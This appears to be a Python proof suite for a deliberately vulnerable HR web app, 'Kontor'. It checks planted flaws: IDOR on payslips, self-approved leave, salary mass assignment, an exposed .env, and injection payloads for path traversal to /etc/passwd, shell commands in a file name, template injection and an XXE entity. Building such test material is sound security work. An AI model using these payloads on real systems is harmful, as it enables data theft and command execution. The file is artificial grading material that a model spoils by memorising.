"""Kontor's flaws, proved by hand."""
from urllib.parse import quote

from .kit import Proofs, takes

PROOFS = Proofs()
flaw, trap = PROOFS.flaw, PROOFS.trap
A, B, HR = ("a.reuter", "Torque-Wrench-88"), ("j.okafor", "Quarter&Close-21"), ("p.hollm", "Stapler-And-Folder-3")


def login(s, who=A):
    got = s.post("/api/auth/login/", {"username": who[0], "password": who[1]})
    sid = next(v.split(";")[0] for v in got.headers.get_all("Set-Cookie") if v.startswith("sessionid="))
    csrf = next(v.split(";")[0] for v in got.headers.get_all("Set-Cookie") if v.startswith("csrftoken="))
    return {"Cookie": f"{sid}; {csrf}", "X-CSRFToken": got.json["csrfToken"], "id": str(got.json["user"]["id"])}


def as_(s, who=A):
    return s.keep(who, lambda: login(s, who))


def leave(s, who=A, **more):
    return s.post("/api/leave-requests/", {"kind": "holiday", "start": "2026-12-01", "end": "2026-12-02", "note": "proof", **more}, headers=as_(s, who)).json


@flaw("payslip-read")
def _(s):
    ident = s.get("/api/payslips/", headers=as_(s)).json["results"][0]["id"]
    assert s.get(f"/api/payslips/{ident}/", headers=as_(s)).status == 200
    return "gross" in s.get(f"/api/payslips/{ident}/", headers=as_(s, B)).json


@flaw("payslips-of")
def _(s):
    me = int(as_(s)["id"])
    return s.get(f"/api/payslips/?employee={me}", headers=as_(s, B)).json["results"][0]["employee"] == me


@flaw("contact-change")
def _(s):
    path = f"/api/employees/{as_(s)['id']}/emergency-contact/"
    s.call("PUT", path, {"name": "by jude", "phone": "1"}, headers=as_(s, B))
    return s.get(path, headers=as_(s)).json["name"] == "by jude"


@flaw("bulk-delete")
def _(s):
    theirs, own = leave(s)["id"], leave(s, B)["id"]
    s.post("/api/leave-requests/bulk-delete/", {"ids": [own, theirs]}, headers=as_(s, B))
    assert s.get(f"/api/leave-requests/{own}/", headers=as_(s, B)).status == 404
    return s.get(f"/api/leave-requests/{theirs}/", headers=as_(s)).status == 404


@flaw("approve-own")
def _(s):
    ident = leave(s)["id"]
    s.post(f"/api/leave-requests/{ident}/approve/", headers=as_(s))
    return s.get(f"/api/leave-requests/{ident}/", headers=as_(s)).json["status"] == "approved"


@flaw("audit-open")
def _(s):
    assert s.get("/api/admin/audit-log/", headers=as_(s, HR)).status == 200
    return s.get("/api/admin/audit-log/", headers=as_(s)).status == 200


@flaw("department-edit")
def _(s):
    s.call("PUT", "/api/departments/sales/", {"name": "Sales", "floor": 7}, headers=as_(s))
    changed = s.get("/api/departments/sales/", headers=as_(s)).json["floor"] == 7
    assert s.call("PUT", "/api/departments/sales/", {"name": "Sales", "floor": 2}, headers=as_(s, HR)).status == 200
    return changed


@flaw("me-salary")
def _(s):
    before = s.get("/api/me/", headers=as_(s)).json
    s.call("PATCH", "/api/me/", {"salary": "99999.00", "vacation_days": 300}, headers=as_(s))
    got = s.get("/api/me/", headers=as_(s)).json
    s.call("PATCH", "/api/me/", {k: before[k] for k in ("salary", "vacation_days")}, headers=as_(s))
    return got["salary"] == "99999.00" and got["vacation_days"] == 300


@flaw("leave-status")
def _(s):
    got = leave(s, status="approved", decided_by="p.hollm")
    return got["status"] == "approved" and s.get(f"/api/leave-requests/{got['id']}/", headers=as_(s)).json["decided_by"] == "p.hollm"


@flaw("directory-all")
def _(s):
    got = s.get("/api/employees/", headers=as_(s)).text
    return "national_id" in got and "pbkdf2" in got


@flaw("timesheets-open")
def _(s):
    return "Jude Okafor" in s.get("/api/timesheets/export/").text


@flaw("ldap-sql")
def _(s):
    return "OperationalError" in s.get("/api/directory/search/?filter=" + quote("(cn=An')"), headers=as_(s)).text


@flaw("doc-up")
def _(s):
    return "root:" in s.get("/api/documents/download/?name=../../../etc/passwd", headers=as_(s)).text


@flaw("checksum-shell")
def _(s):
    got = s.post("/api/documents/checksum/", {"name": "handbook.txt; expr 1000 + 337"}, headers=as_(s)).json
    return "1337" in got.get("output", "") and takes(*(lambda n=n: s.post("/api/documents/checksum/", {"name": f"handbook.txt; sleep {n}"}, headers=as_(s)) for n in (1, 0)), 1)


@flaw("preview-template")
def _(s):
    return s.post("/api/reports/preview/", {"template": "{{ 7*191 }}"}, headers=as_(s)).json["text"] == "1337"


@flaw("import-entities")
def _(s):
    xml = '<!DOCTYPE t [<!ENTITY e SYSTEM "file:///etc/passwd">]><timesheet><entry week="40"><hours>1</hours><note>&e;</note></entry></timesheet>'
    return "root:" in s.call("POST", "/api/timesheets/import/", body=xml, headers={**as_(s), "Content-Type": "application/xml"}).text


@flaw("debug-pages")
def _(s):
    got = s.get("/api/timesheets/?week=many", headers=as_(s))
    told = "ValueError" in got.text and "Traceback" in got.text
    assert told == ("timesheets" in s.get("/api/nothing-here").text)
    return told


@flaw("login-tells")
def _(s):
    wrong, unknown = (s.post("/api/auth/login/", {"username": u, "password": "x"}) for u in ("staff00", "nobody"))
    assert wrong.status == unknown.status == 400
    return wrong.text != unknown.text


@flaw("bare-headers")
def _(s):
    got = s.post("/api/auth/login/", {"username": A[0], "password": A[1]}).headers
    sid = next(v for v in got.get_all("Set-Cookie") if v.startswith("sessionid="))
    return "X-Content-Type-Options" not in got and "HttpOnly" not in sid and "SameSite" not in sid


@flaw("env-left")
def _(s):
    return "SECRET_KEY" in s.get("/.env").text and s.get("/.env").status == 200


@trap("company-directory")
def _(s):
    return [s.get(f"/api/employees/{as_(s, B)['id']}/", headers=as_(s, w)).text for w in (A, B)][0].count("j.okafor@kontor.example") == 1 and s.get("/api/employees/").status == 401


@trap("notice-board")
def _(s):
    s.post("/api/notices/", {"title": "proof", "text": "<b>x</b>"}, headers=as_(s))
    return s.get("/api/notices/", headers=as_(s)).text == s.get("/api/notices/", headers=as_(s, B)).text


@trap("csrf-readable")
def _(s):
    bare = s.call("PATCH", "/api/me/", {"phone": "-99"}, headers={"Cookie": as_(s)["Cookie"]}).status
    return bare == 403 and bool(s.get("/api/auth/csrf/").json["csrfToken"])


@trap("withdrawn")
def _(s):
    path = f"/api/leave-requests/{leave(s)['id']}/"
    return s.call("DELETE", path, headers=as_(s)).status == 200 and s.get(path, headers=as_(s)).json["status"] == "withdrawn"


@trap("hr-and-owner")
def _(s):
    path = f"/api/employees/{as_(s)['id']}/emergency-contact/"
    return [s.get(path, headers=as_(s, w)).status for w in (A, HR, B)] == [200, 200, 404]


@trap("not-found-200")
def _(s):
    got = s.post("/api/leave-requests/bulk-delete/", {"ids": [leave(s)["id"], 999999]}, headers=as_(s))
    return got.status == 200 and got.json == {"deleted": 1, "not_found": [999999]}


@trap("placeholders")
def _(s):
    got = s.post("/api/reports/preview/", {"template": "Dear {{ employee.full_name }}, {{7*7"}, headers=as_(s))
    whole = s.post("/api/reports/preview/", {"template": "Dear {{ employee.full_name }},"}, headers=as_(s)).json["text"]
    return whole == "Dear Ann Reuter," and got.status in (200, 400)


@trap("public-jobs")
def _(s):
    done = [s.post("/api/jobs/1/apply/", {"name": "x", "email": "x@x.example"}).status for _ in range(2)]
    return s.get("/api/jobs/").status == 200 and done == [202, 202]


@trap("stars-match")
def _(s):
    some, everyone = (s.get("/api/directory/search/?filter=" + quote(f), headers=as_(s)).json for f in ("(cn=Ann R*)", "(cn=*)"))
    return len(some) == 1 and len(everyone) > 25


@trap("others-ignored")
def _(s):
    got = s.call("PATCH", "/api/me/", {"id": 1, "username": "boss", "title": "CEO", "phone": "-14"}, headers=as_(s))
    return got.status == 200 and got.json["username"] == "a.reuter" and got.json["title"] == "Engineer"
